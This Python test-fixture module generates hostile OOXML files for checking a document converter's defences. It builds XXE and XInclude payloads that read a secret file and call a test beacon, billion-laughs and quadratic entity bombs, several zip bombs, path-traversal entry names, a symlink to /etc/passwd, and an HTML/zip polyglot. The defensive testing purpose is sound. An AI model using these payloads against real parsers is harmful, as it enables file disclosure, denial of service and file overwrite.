"""Format-neutral hostile OOXML packages: XXE, entity bombs, zip bombs, path escapes, duplicate and encrypted entries.

Each ``make_*`` takes a ``Flavor`` (how to build a small valid document of one format and where its text
lives), the output folder and the test's ``Env``, writes one file and returns its path. Adding DOCX or
another OOXML format only needs a new ``Flavor``.
"""

from __future__ import annotations

import random
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .payloads import Env
from .zips import (
    Entries,
    build_raw_zip,
    deflate_zeros,
    patch_sizes,
    raw_deflate,
    read_entries,
    replace_entry,
    write_entries,
)

TEXT_MARKER = "HOSTILE-TEXT-MARKER"
"""Every flavor's base document holds this word in ``text_part``; XML generators put their entity references
next to it."""
BOMB_BYTES = 96 * 1024 * 1024
"""Unpacked size of the zip-bomb parts: far over the default 200:1 ratio, cheap to build (about 0.1 MB packed)."""
ENTITY_BOMB = "".join(
    ['<!ENTITY lol0 "lollollollollollollollollollol">']
    + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
)
QUADRATIC_ENTITY = "q" * 64 * 1024


@dataclass(frozen=True)
class Flavor:
    """One OOXML format: ``build_base(path)`` writes a valid document whose ``text_part`` holds TEXT_MARKER."""

    fmt: str
    ext: str
    build_base: Callable[[Path], Path]
    text_part: str
    metadata_part: str = "docProps/core.xml"

    def base(self, folder: Path, name: str) -> Entries:
        """Build the base document in ``folder`` and return its entries."""
        return read_entries(self.build_base(folder / f".base-{name}{self.ext}"))

    def target(self, folder: Path, name: str) -> Path:
        return folder / f"{name}{self.ext}"


def entry(entries: Entries, name: str) -> bytes:
    return next(data for entry_name, data in entries if entry_name == name)


def with_doctype(xml: bytes, doctype: str, encoding: str = "utf-8") -> bytes:
    """Return ``xml`` (UTF-8) with ``doctype`` inserted after its XML declaration, re-encoded if asked."""
    text = xml.decode("utf-8")
    if text.startswith("<?xml"):
        head, _, body = text.partition("?>")
        head = head.replace("UTF-8", encoding.upper()).replace("utf-8", encoding.upper())
        text = head + "?>" + doctype + body
    else:
        text = doctype + text
    return text.encode(encoding)


def xxe_doctype(env: Env) -> str:
    """A DOCTYPE with a file entity, a network entity and network and file parameter entities (used at once)."""
    secret, canary = Path(env.secret_file).as_uri(), Path(env.canary).as_uri()
    return (
        "<!DOCTYPE x ["
        f'<!ENTITY xxe SYSTEM "{secret}">'
        f'<!ENTITY net SYSTEM "{env.beacon}/xxe">'
        f'<!ENTITY pub PUBLIC "-//C2E//HOSTILE//EN" "{env.beacon}/xxe-public">'
        f'<!ENTITY pipe SYSTEM "{canary}">'
        f'<!ENTITY % dtd SYSTEM "{env.beacon}/xxe-param.dtd">'
        f'<!ENTITY % canary SYSTEM "{canary}">'
        "%dtd;%canary;"
        "]>"
    )


XXE_REFS = "[&xxe;][&net;][&pub;][&pipe;]"
"""References to every general entity of ``xxe_doctype``; the canary pipe's DTD would define ``&leaked;``."""


def _plant(xml: bytes, refs: str) -> bytes:
    """Put entity references right after the text marker (the part is unchanged when it has none)."""
    return xml.replace(TEXT_MARKER.encode(), f"{TEXT_MARKER} {refs}".encode(), 1)


def _plant_metadata(xml: bytes, refs: str) -> bytes:
    """Put entity references into the core properties' title (created when missing)."""
    if b"</dc:title>" in xml:
        return xml.replace(b"</dc:title>", refs.encode() + b"</dc:title>", 1)
    close = xml.rfind(b"</")
    title = f'<dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">{refs}</dc:title>'.encode()
    return xml[:close] + title + xml[close:]


def _entity_entries(flavor: Flavor, folder: Path, name: str, doctype: str, refs: str,
                    encoding: str = "utf-8", every_xml_part: bool = True) -> Path:
    entries = flavor.base(folder, name)
    out: Entries = []
    for entry_name, data in entries:
        if entry_name == flavor.text_part:
            data = with_doctype(_plant(data, refs), doctype, encoding)
        elif entry_name == flavor.metadata_part:
            data = with_doctype(_plant_metadata(data, refs), doctype, encoding)
        elif every_xml_part and entry_name.endswith((".xml", ".rels")):
            data = with_doctype(data, doctype, encoding)
        out.append((entry_name, data))
    return write_entries(flavor.target(folder, name), out)


# ---------------------------------------------------------------------------------------------- XML entities


def make_xxe(flavor: Flavor, folder: Path, env: Env) -> Path:
    """External entities (a secret file, loopback URLs, parameter entities) declared in every XML part."""
    return _entity_entries(flavor, folder, "xxe", xxe_doctype(env), XXE_REFS)


def make_xxe_utf16(flavor: Flavor, folder: Path, env: Env) -> Path:
    """Every XML part in UTF-16 (with BOM) declaring external entities (OOXML allows UTF-8 and UTF-16)."""
    return _entity_entries(flavor, folder, "xxe-utf16", xxe_doctype(env), XXE_REFS, "utf-16")


def make_xxe_utf32(flavor: Flavor, folder: Path, env: Env) -> Path:
    """Every XML part in UTF-32 declaring external entities: a byte scan for ``<!DOCTYPE`` in UTF-8/16
    does not see these DOCTYPEs, so the parser itself must refuse to load what they name."""
    return _entity_entries(flavor, folder, "xxe-utf32", xxe_doctype(env), XXE_REFS + '<x a="&leaked;"/>', "utf-32")


def make_xinclude(flavor: Flavor, folder: Path, env: Env) -> Path:
    """XIncludes of the secret file, the canary pipe and the beacon, and a stylesheet PI on the beacon: none may
    be followed (lxml processes XInclude only when asked, and must never be asked)."""
    entries = flavor.base(folder, "xinclude")
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    include = (f'<xi:include {xi} href="{Path(env.secret_file).as_uri()}" parse="text"/>'
               f'<xi:include {xi} href="{Path(env.canary).as_uri()}" parse="text"/>'
               f'<xi:include {xi} href="{env.beacon}/xinclude"/>')
    data = entry(entries, flavor.text_part).decode("utf-8")
    head, _, body = data.partition("?>")
    close = body.rfind("</")
    body = body[:close] + include + body[close:]
    data = f'{head}?><?xml-stylesheet type="text/xsl" href="{env.beacon}/xslt"?>{body}'
    entries = replace_entry(entries, flavor.text_part, data.encode("utf-8"))
    return write_entries(flavor.target(folder, "xinclude"), entries)


def make_billion_laughs(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The classic exponential entity bomb (10^9 * 30 bytes) in every XML part, referenced in text."""
    return _entity_entries(flavor, folder, "billion-laughs", f"<!DOCTYPE x [{ENTITY_BOMB}]>", "&lol9;")


def make_billion_laughs_utf32(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The entity bomb in a UTF-32 text part (not seen by a UTF-8/16 DOCTYPE scan)."""
    return _entity_entries(flavor, folder, "billion-laughs-utf32", f"<!DOCTYPE x [{ENTITY_BOMB}]>", "&lol9;",
                           "utf-32", False)


def make_quadratic_blowup(flavor: Flavor, folder: Path, env: Env) -> Path:
    """One 64 KiB entity referenced 20,000 times (1.3 GB if expanded; no nesting for a depth check to catch)."""
    doctype = f'<!DOCTYPE x [<!ENTITY q "{QUADRATIC_ENTITY}">]>'
    return _entity_entries(flavor, folder, "quadratic-blowup", doctype, "&q;" * 20_000, every_xml_part=False)


# ---------------------------------------------------------------------------------------------- zip bombs


def make_bomb_padding(flavor: Flavor, folder: Path, env: Env) -> Path:
    """A valid document plus a 96 MiB part of zeros that packs to about 100 KB (ratio about 1000:1)."""
    path = write_entries(flavor.target(folder, "bomb-padding"), flavor.base(folder, "bomb-padding"))
    packed, crc = deflate_zeros(BOMB_BYTES)
    _append_raw(path, "docProps/padding.bin", packed, crc, BOMB_BYTES)
    return path


def make_bomb_lying_size(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The text part inflates to 96 MiB but its headers declare its real (small) size and CRC.

    A reader that trusts the stream rather than the declared size would inflate it all.
    """
    entries = flavor.base(folder, "bomb-lying-size")
    text = entry(entries, flavor.text_part)
    path = write_entries(flavor.target(folder, "bomb-lying-size"),
                         [(n, d) for n, d in entries if n != flavor.text_part])
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    stream = compressor.compress(text)
    stream += b"".join(compressor.compress(chunk) for _ in range(BOMB_BYTES >> 20)) + compressor.flush()
    _append_raw(path, flavor.text_part, stream, zlib.crc32(text), len(text))
    return path


def make_bomb_declared_huge(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The text part's headers declare 3.9 GB unpacked (the central directory alone must trip the limit)."""
    path = write_entries(flavor.target(folder, "bomb-declared-huge"), flavor.base(folder, "bomb-declared-huge"))
    return patch_sizes(path, flavor.text_part, unpacked=0xF0000000)


def make_bomb_overlapping(flavor: Flavor, folder: Path, env: Env) -> Path:
    """2,000 central directory entries sharing one 8 MiB deflated-zeros local entry (Fifield's overlap bomb)."""
    base = flavor.base(folder, "bomb-overlapping")
    members = [(name, raw_deflate(data), zlib.crc32(data), len(data), zipfile.ZIP_DEFLATED) for name, data in base]
    packed, crc = deflate_zeros(8 << 20)
    members.append(("docProps/kernel.bin", packed, crc, 8 << 20, zipfile.ZIP_DEFLATED))
    shared = {}
    for n in range(2000):
        name = f"docProps/overlap{n:04}.bin"
        members.append((name, packed, crc, 8 << 20, zipfile.ZIP_DEFLATED))
        shared[name] = len(base)
    path = flavor.target(folder, "bomb-overlapping")
    path.write_bytes(build_raw_zip(members, shared))
    return path


def make_many_entries(flavor: Flavor, folder: Path, env: Env) -> Path:
    """10,050 tiny entries: over the default limit of 10,000 zip entries."""
    entries = flavor.base(folder, "many-entries") + [(f"customXml/e{n:05}.xml", b"<e/>") for n in range(10_050)]
    return write_entries(flavor.target(folder, "many-entries"), entries, zipfile.ZIP_STORED)


def make_nested_zip(flavor: Flavor, folder: Path, env: Env) -> Path:
    """An embedded zip holding a 96 MiB bomb: an embedded object is never unpacked, so the document converts."""
    inner = write_entries(folder / ".inner-bomb.zip", [])
    packed, crc = deflate_zeros(BOMB_BYTES)
    _append_raw(inner, "bomb.bin", packed, crc, BOMB_BYTES)
    entries = flavor.base(folder, "nested-zip") + [("embeddings/bomb.zip", inner.read_bytes())]
    return write_entries(flavor.target(folder, "nested-zip"), entries, zipfile.ZIP_STORED)


def _append_raw(path: Path, name: str, packed: bytes, crc: int, unpacked: int) -> None:
    """Append a deflated entry whose headers declare ``unpacked`` bytes and ``crc``, whatever ``packed`` holds."""
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    rebuilt = [(n, raw_deflate(d), zlib.crc32(d), len(d), zipfile.ZIP_DEFLATED) for n, d in members]
    rebuilt.append((name, packed, crc, unpacked, zipfile.ZIP_DEFLATED))
    path.write_bytes(build_raw_zip(rebuilt))


# ---------------------------------------------------------------------------------------------- entries and names


TRAVERSAL_NAMES = (
    "../../evil-dotdot.txt",
    "../../../../../../../../tmp/c2e-hostile-evil-{tag}.txt",
    "/etc/c2e-hostile-{tag}",
    "/tmp/c2e-hostile-abs-{tag}.txt",
    "..\\..\\evil-backslash.txt",
    "C:\\evil-drive.txt",
    "C:/evil-drive-slash.txt",
    "ppt/../../evil-inner.txt",
    "word/media/../../../evil-deep.txt",
    "./../evil-dot.txt",
    "\u2024\u2024/evil-one-dot-leader.txt",
)


def traversal_names(env: Env) -> list[str]:
    return [name.format(tag=env.tag) for name in TRAVERSAL_NAMES]


def make_traversal_entries(flavor: Flavor, folder: Path, env: Env) -> Path:
    """A valid document plus entries named to escape the output folder (relative, absolute, backslash, drive)."""
    extra = [(name, f"escaped {env.tag}".encode()) for name in traversal_names(env)]
    return write_entries(flavor.target(folder, "traversal-entries"), flavor.base(folder, "traversal") + extra)


def make_symlink_entry(flavor: Flavor, folder: Path, env: Env) -> Path:
    """A Unix symlink entry pointing at /etc/passwd (an unzip tool would create the link)."""
    path = write_entries(flavor.target(folder, "symlink-entry"), flavor.base(folder, "symlink"))
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo("media/passwd-link", date_time=(1980, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
    return path


def make_duplicate_entries(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The text part twice (and once more in upper case), the later copies holding a different marker."""
    entries = flavor.base(folder, "duplicates")
    text = entry(entries, flavor.text_part)
    entries += [(flavor.text_part, text.replace(TEXT_MARKER.encode(), b"SECOND-COPY")),
                (flavor.text_part.upper(), text.replace(TEXT_MARKER.encode(), b"UPPER-COPY"))]
    return write_entries(flavor.target(folder, "duplicate-entries"), entries)


def make_encrypted_flag(flavor: Flavor, folder: Path, env: Env) -> Path:
    """The text part flagged as zip-encrypted (traditional PKWARE): no reader can decrypt it."""
    path = write_entries(flavor.target(folder, "encrypted-flag"), flavor.base(folder, "encrypted-flag"))
    return patch_sizes(path, flavor.text_part, flags=0x801)


def make_polyglot(flavor: Flavor, folder: Path, env: Env) -> Path:
    """An HTML page with a script, followed by a valid document (a zip reader finds the zip at the end)."""
    base = write_entries(folder / f".polyglot-base{flavor.ext}", flavor.base(folder, "polyglot"))
    html = f"<html><script>window.__pwned=1</script><img src='{env.beacon}/polyglot'></html>\n".encode()
    path = flavor.target(folder, "polyglot-html")
    path.write_bytes(html + base.read_bytes())
    return path


# ---------------------------------------------------------------------------------------------- damage


def make_truncated(seed: Path, folder: Path, offset: int) -> Path:
    """``seed`` cut after ``offset`` bytes (negative: that many bytes before its end)."""
    data = seed.read_bytes()
    cut = data[:offset] if offset >= 0 else data[:len(data) + offset]
    path = folder / f"{seed.stem}-cut-{offset}{seed.suffix}"
    path.write_bytes(cut)
    return path


def make_bitflipped(seed: Path, folder: Path, seed_value: int, flips: int) -> Path:
    """``seed`` with ``flips`` random bits flipped (positions from ``random.Random(seed_value)``)."""
    data = bytearray(seed.read_bytes())
    rng = random.Random(seed_value)
    for _ in range(flips):
        position = rng.randrange(len(data))
        data[position] ^= 1 << rng.randrange(8)
    path = folder / f"{seed.stem}-flip-{seed_value}-{flips}{seed.suffix}"
    path.write_bytes(bytes(data))
    return path
